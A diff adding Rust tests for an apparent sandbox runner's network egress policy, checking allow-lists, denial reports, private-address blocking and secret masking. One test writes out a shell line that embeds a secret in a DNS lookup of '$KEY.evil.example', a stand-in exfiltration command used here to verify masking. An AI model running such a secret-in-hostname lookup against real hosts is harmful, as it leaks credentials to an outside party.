@@ -1,0 +1,223 @@
+//! Whom a body may reach, as the caller says it and is told of it: flags, host policy, the report
+//! and standard error. The one host outside is a listener of the test's own on 127.0.0.1, which
+//! `--add-host` and a policy lead to; what the network itself does is tested elsewhere.
+
+use std::io::{Read as _, Write as _};
+use std::net::{Ipv4Addr, TcpListener};
+use std::thread::JoinHandle;
+
+use serde_json::json;
+
+use super::scripts::text;
+use super::support::{Done, Ground};
+
+/// The address of the listener, and no other that is not public.
+const OPEN: &str = "egress: {private_ranges: [127.0.0.1/32]}\n";
+
+/// Answers one connection: what it was told, behind `got `.
+fn serve_once() -> (u16, JoinHandle<String>) {
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
+    let port = listener.local_addr().expect("its own").port();
+    let server = std::thread::spawn(move || {
+        let (mut connection, _) = listener.accept().expect("somebody comes");
+        let mut told = [0; 6];
+        connection.read_exact(&mut told).expect("six bytes");
+        let told = String::from_utf8_lossy(&told).into_owned();
+        write!(connection, "got {told}").expect("taken");
+        told
+    });
+    (port, server)
+}
+
+fn denials(done: &Done) -> Vec<(&str, &str)> {
+    let list = done.report["denials"].as_array().expect("a list");
+    list.iter()
+        .map(|denial| {
+            (
+                denial["object"].as_str().expect("an object"),
+                denial["reason"].as_str().expect("a reason"),
+            )
+        })
+        .collect()
+}
+
+fn lines(done: &Done) -> Vec<&str> {
+    let of_runner = |line: &&str| line.starts_with("runner: ");
+    done.stderr.lines().filter(of_runner).collect()
+}
+
+#[test]
+fn a_host_of_the_manifest_is_reached_by_its_name_and_its_bytes_are_counted() {
+    let ground = Ground::new();
+    let policy = ground.write("open.yaml", OPEN);
+    let (port, server) = serve_once();
+    let manifest = format!("run: body.sh\nnetwork: {{egress: ['listed.example:{port}']}}\n");
+    let body =
+        format!("exec 3<>/dev/tcp/listed.example/{port}; printf hello! >&3; head -c 10 <&3\n");
+    let done = ground.exec(
+        &[
+            "--policy",
+            text(&policy),
+            "--grant",
+            "egress",
+            "--add-host",
+            "listed.example:127.0.0.1",
+        ],
+        &ground.script(&manifest, &body),
+    );
+    done.assert_exited(0);
+    assert_eq!(done.text(), "got hello!");
+    assert_eq!(server.join().expect("served"), "hello!");
+    assert_eq!(lines(&done), <[&str; 0]>::default());
+    let egress = &done.report["egress"];
+    assert_eq!(egress["allowed"], json!([format!("listed.example:{port}")]));
+    assert_eq!(
+        egress["hosts"],
+        json!([{
+            "host": "listed.example", "connections": 1, "sent_bytes": 6, "received_bytes": 10,
+        }])
+    );
+    assert!(["tproxy", "anyip"].contains(&egress["capture"].as_str().expect("a way")));
+    assert_eq!(done.report["denials"], json!([]));
+}
+
+#[test]
+fn what_is_denied_is_told_in_five_lines_and_none_where_the_caller_wants_quiet() {
+    let ground = Ground::new();
+    let body = "for host in a b c c c d e f; do getent ahostsv4 $host.example; done; true\n";
+    let bundle = ground.script("run: body.sh\n", body);
+    let done = ground.exec(&["--allow-net", "listed.example"], &bundle);
+    done.assert_exited(0);
+    let told = lines(&done);
+    assert_eq!(told.len(), 6, "{told:?}");
+    assert!(
+        told[0].starts_with("runner: denied egress to c.example (not in network.egress"),
+        "{told:?}"
+    );
+    assert!(told[1].contains("a.example"), "{told:?}");
+    assert_eq!(told[5], "runner: … 1 more: see --json");
+    let found = denials(&done);
+    assert_eq!(found.len(), 6, "{found:?}");
+    assert_eq!(found[0], ("a.example", "name-not-allowed"));
+    let hint = &done.report["denials"][0]["hint"];
+    assert_eq!(
+        hint,
+        "--allow-net a.example, or a.example in network.egress"
+    );
+    let quiet = ground.exec(&["-q", "--allow-net", "listed.example"], &bundle);
+    assert_eq!(lines(&quiet), <[&str; 0]>::default());
+    assert_eq!(denials(&quiet).len(), 6);
+}
+
+#[test]
+fn without_a_list_nothing_is_told_unless_the_caller_asks() {
+    let ground = Ground::new();
+    let bundle = ground.script("run: body.sh\n", "getent ahostsv4 a.example; true\n");
+    let done = ground.exec(&[], &bundle);
+    done.assert_exited(0);
+    assert_eq!(done.report["egress"]["capture"], "none");
+    assert_eq!(done.report["denials"], json!([]));
+    assert_eq!(lines(&done), <[&str; 0]>::default());
+    let done = ground.exec(&["--report-denials"], &bundle);
+    done.assert_exited(0);
+    assert_ne!(done.report["egress"]["capture"], "none");
+    assert_eq!(denials(&done), [("a.example", "name-not-allowed")]);
+}
+
+#[test]
+fn what_the_host_policy_refuses_is_told_before_and_after_and_refused_where_strict() {
+    let ground = Ground::new();
+    let policy = ground.write("p.yaml", "egress: {allow: [other.example]}\n");
+    let flags = ["--policy", text(&policy), "--allow-net", "a.example"];
+    let bundle = ground.script("run: body.sh\n", "getent ahostsv4 a.example; true\n");
+    let done = ground.exec(&flags, &bundle);
+    done.assert_exited(0);
+    assert!(done.warns("egress_policy_forbids"), "{done:#?}");
+    assert_eq!(done.report["egress"]["allowed"], json!([]));
+    assert_eq!(done.report["egress"]["capture"], "none");
+    let told = lines(&done);
+    assert_eq!(told.len(), 1, "{told:?}");
+    assert!(told[0].contains("egress.allow"), "{told:?}");
+    let denied = ground.exec(&[&flags[..], &["--report-denials"]].concat(), &bundle);
+    let hint = &denied.report["denials"][0]["hint"];
+    assert_eq!(hint, "host policy: egress.allow has to list a.example");
+    let strict = ground.exec(&[&flags[..], &["--strict"]].concat(), &bundle);
+    strict
+        .assert_error("refused", "strict_refuses")
+        .assert_message("a.example")
+        .assert_nothing_ran();
+}
+
+#[test]
+fn an_address_that_is_not_public_is_denied_with_the_key_that_opens_it() {
+    let ground = Ground::new();
+    let body = "exec 3<>/dev/tcp/listed.example/9 && cat <&3; true\n";
+    let done = ground.exec(
+        &[
+            "--allow-net",
+            "listed.example",
+            "--add-host",
+            "listed.example:10.1.2.3",
+        ],
+        &ground.script("run: body.sh\n", body),
+    );
+    done.assert_exited(0);
+    assert!(done.warns("egress_address_private"), "{done:#?}");
+    assert_eq!(
+        denials(&done),
+        [("listed.example:9", "resolves-to-private")]
+    );
+    let hint = done.report["denials"][0]["hint"].as_str().expect("a hint");
+    assert!(
+        hint.starts_with("host policy: egress.private_ranges"),
+        "{hint}"
+    );
+}
+
+/// A body that asks for a name with a secret in it: the record of that has no secret in it.
+#[test]
+fn a_secret_in_a_name_that_was_asked_for_is_masked() {
+    let ground = Ground::new();
+    let mut case = ground.command(&[
+        "exec",
+        "--report-denials",
+        "--secret",
+        "KEY=env:GIVEN",
+        text(&ground.script(
+            "run: body.sh\n",
+            "getent ahostsv4 $KEY.evil.example; true\n",
+        )),
+    ]);
+    case.command.env("GIVEN", "Tr0ub4dorAndThree");
+    let done = case.done();
+    done.assert_exited(0);
+    assert_eq!(denials(&done), [("***.evil.example", "name-not-allowed")]);
+    let everything = done.report.to_string().to_lowercase() + &done.stderr.to_lowercase();
+    assert!(!everything.contains("ub4dor"), "{everything}");
+}
+
+#[test]
+fn a_published_port_that_is_taken_is_refused_before_anything_runs() {
+    let ground = Ground::new();
+    let taken = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
+    let port = taken.local_addr().expect("its own").port();
+    let bundle = ground.script("run: body.sh\n", "echo ran\n");
+    let done = ground.exec(&["--publish", &format!("{port}:80")], &bundle);
+    done.assert_error("refused", "port_unavailable")
+        .assert_message(&format!("127.0.0.1:{port}"))
+        .assert_hint("choose another port")
+        .assert_nothing_ran();
+}
+
+/// The C library asks for no IPv4 address by name where it sees no device that has one.
+#[test]
+fn a_program_that_asks_for_ipv4_alone_is_told_of_an_allowed_host() {
+    let ground = Ground::new();
+    let bundle = ground.script("run: body.sh\n", "getent ahostsv4 listed.example\n");
+    for capture in ["auto", "anyip"] {
+        let flags = ["--egress-capture", capture, "--allow-net", "listed.example"];
+        let done = ground.exec(&flags, &bundle);
+        done.assert_exited(0);
+        assert!(done.text().starts_with("198.18."), "{done:#?}");
+    }
+}
